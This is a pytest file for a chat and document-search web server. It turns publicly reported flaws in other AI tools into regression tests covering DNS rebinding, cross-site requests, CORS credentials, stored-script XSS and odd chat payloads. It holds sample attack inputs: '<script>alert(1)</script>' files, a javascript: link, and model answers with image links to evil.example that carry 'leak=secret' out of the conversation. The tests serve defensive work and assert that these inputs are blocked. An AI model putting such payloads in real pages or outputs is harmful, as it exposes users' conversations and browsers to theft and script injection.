"""Public reports about pages and endpoints, rebuilt: hostile pages, hostile files, odd clients."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from model_server import ModelServer
from starlette.testclient import TestClient

import hopyard
from hopyard.nodes.resources import Resources
from hopyard.state.settings.given import Given
from hopyard.web.app import application

from .conftest import ANSWER, QUESTION, replies, served

EVIL = "https://evil.example"


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        # ComfyUI 12860, odysseus 2887: after DNS rebinding, host and origin are the attacker's.
        ({"host": "evil.example:8420", "origin": "http://evil.example:8420"}, 421),
        ({"host": "0.0.0.0:8420"}, 421),
        ({"host": "127.0.0.1.nip.io:8420"}, 421),
        # cezar 426: a request that needs no preflight, with any content type or with none.
        ({"origin": EVIL, "content-type": "text/plain"}, 403),
        ({"origin": "null", "content-type": ""}, 403),
        ({"content-type": "text/plain;charset=UTF-8"}, 415),
        ({"sec-fetch-site": "cross-site", "sec-fetch-mode": "no-cors", "content-type": ""}, 403),
    ],
)
def test_no_page_of_another_site_asks(
    client: TestClient, chat: ModelServer, headers: dict[str, str], status: int
) -> None:
    body = json.dumps({"question": QUESTION, "messages": [{"role": "user", "content": QUESTION}]})
    for path in ("/api/threads", "/v1/chat/completions"):
        sent = client.post(path, content=body.encode(), headers=headers)
        assert (path, sent.status_code) == (path, status)
    assert not chat.calls


def test_no_other_site_reads_an_answer(given: Given) -> None:
    """llama.cpp 25606: any origin was named as allowed, with credentials."""
    asks = {"origin": EVIL, "access-control-request-method": "POST"}
    for token in ("", "secret"):
        with Resources() as resources:
            client = TestClient(application(given, resources, token=token))
            for path in ("/v1/models", "/api/threads"):
                answer = client.options(path, headers={**asks, "host": "localhost"})
                assert "access-control-allow-credentials" not in answer.headers
                allowed = "access-control-allow-origin" in answer.headers
                assert allowed == bool(token and path.startswith("/v1/"))


def test_an_original_runs_no_script(given: Given, tmp_path: Path) -> None:
    """ragflow 13202, open-webui 24372, ComfyUI 6034: a stored file ran its scripts in the page."""
    files, index = tmp_path / "files", tmp_path / "of-files"
    files.mkdir()
    script = "<script>alert(1)</script>"
    for suffix in ("html", "htm", "md", "txt"):
        (files / f"{suffix}.{suffix}").write_text(f"{script}<p>The {suffix} bridge is of iron.</p>")
    for suffix in ("svg", "xml", "xhtml"):
        drawn = f'<svg xmlns="http://www.w3.org/2000/svg"><text>{suffix}</text>{script}</svg>'
        (files / f"{suffix}.{suffix}").write_text(drawn)
    hopyard.build_index(index, files, embedding="words")
    changed = given.context.model_copy(update={"index": str(index)})
    with served(Given(changed, given.flags, given.names), folders=[files]) as client:
        listed = client.get("/api/documents").json()["documents"]
        assert len(listed) == 6  # an SVG file is not read
        for each in listed:
            shown = client.get("/api/original", params={"document": each["id"]})
            kind = shown.headers["content-type"].partition(";")[0]
            assert kind in {"application/octet-stream", "text/plain"}
            assert shown.headers["content-security-policy"] == "sandbox"
            assert shown.headers["x-content-type-options"] == "nosniff"


def test_an_answer_loads_nothing_from_outside(client: TestClient, chat: ModelServer) -> None:
    """ai-dial-chat 7109, dust 12359, theia 17392: a picture's address carries the conversation."""
    leak = "![x](https://evil.example/p.png?leak=secret) <img src=//evil.example/q.png>"
    said = f"In 1781 [1]. {leak} [here](https://evil.example) [a]: javascript:alert(1)\n\n[a]"
    chat.answer = replies({"Answer": {"answer": said, "passages": [1]}})
    thread = client.post("/api/threads", json={"question": QUESTION}).json()["thread"]
    client.get(f"/api/threads/{thread}/events")
    [turn] = client.get(f"/api/threads/{thread}").json()["turns"]
    saved = client.get(f"/api/threads/{thread}/trace.html").text
    for shown in (turn["html"], saved.partition('<script type="module">')[0]):
        assert "evil.example" in shown  # as text
        for harm in ("<img", 'src="//', 'src="http', 'href="javascript'):
            assert harm not in shown


def test_each_mark_of_a_client_leads_to_its_own_passage(
    client: TestClient, chat: ModelServer
) -> None:
    """open-webui 10979 and 12811, ragflow 8594: wrong numbers, or one source for each."""
    said = "Iron [1]. Stone [2]. A river [3]. Both [1][3]."
    chat.answer = replies({"Answer": {"answer": said, "passages": [1, 2, 3]}})
    body = {"messages": [{"role": "user", "content": QUESTION}], "stream": True}
    body["stream_options"] = {"include_usage": True}
    lines = client.post("/v1/chat/completions", json=body).text.splitlines()
    chunks = [json.loads(line[6:]) for line in lines if line.startswith("data: {")]
    events = [chunk["event"]["data"] for chunk in chunks if "event" in chunk]
    sources = [event for event in events if "source" in event]
    ids = [source["source"]["id"].rpartition("/")[2] for source in sources]
    assert ids == [str(number) for number in range(1, len(ids) + 1)]
    text = "".join(chunk["choices"][0]["delta"].get("content", "") for chunk in chunks[:-1])
    assert text.startswith(said)
    assert "---" not in text  # a number is no reason to write the answer again
    named = [source["source"]["name"] for source in sources]
    assert named == ["Iron Bridge", "Stone Bridge", "Regensburg", "Iron Bridge"]
    # ATOM 1711, litellm 8751: the chunk of the usage has an empty list.
    assert [chunk["choices"] for chunk in chunks if "usage" in chunk] == [[]]
    assert all("choices" in chunk for chunk in chunks)


@pytest.mark.parametrize(
    ("messages", "status"),
    [
        ([{"role": "user", "content": None}], 400),
        ([{"role": "user", "content": []}], 400),
        # open-webui 16229: a picture and no words.
        ([{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "x"}}]}], 400),
        ([{"role": "user", "content": {"text": "x"}}], 400),
        ([{"role": "assistant", "content": "I end."}], 400),
        ([{"role": "system", "content": "Be brief."}], 400),
        ([], 400),
        # NeMo-Agent-Toolkit 2068, lmstudio 261: the history of a call of a tool.
        (
            [
                {"role": "user", "content": "Hello"},
                {"role": "assistant", "content": None, "tool_calls": [{"id": "c", "function": {}}]},
                {"role": "tool", "content": [{"type": "text", "text": "42"}], "tool_call_id": "c"},
                {"role": "function", "name": "f", "content": "1"},
                {"role": "user", "content": [{"type": "input_text", "text": QUESTION}]},
            ],
            200,
        ),
        ([{"role": "user", "content": f"Word {n}. " * 20} for n in range(1500)], 200),
    ],
    ids=lambda value: f"{len(value)}" if isinstance(value, list) else "",
)
def test_odd_conversations(
    client: TestClient, chat: ModelServer, messages: list[Any], status: int
) -> None:
    alone = {"kind": "question", "question": QUESTION}
    chat.answer = replies({"Answer": ANSWER, "StandAlone": alone})
    body = {"messages": messages, "stop": ["\n"], "seed": 1, "logprobs": False, "user": "a"}
    answer = client.post("/v1/chat/completions", json=body)
    assert answer.status_code == status, answer.text
    if status == 400:
        assert answer.json()["error"]["message"].count(".") >= 1
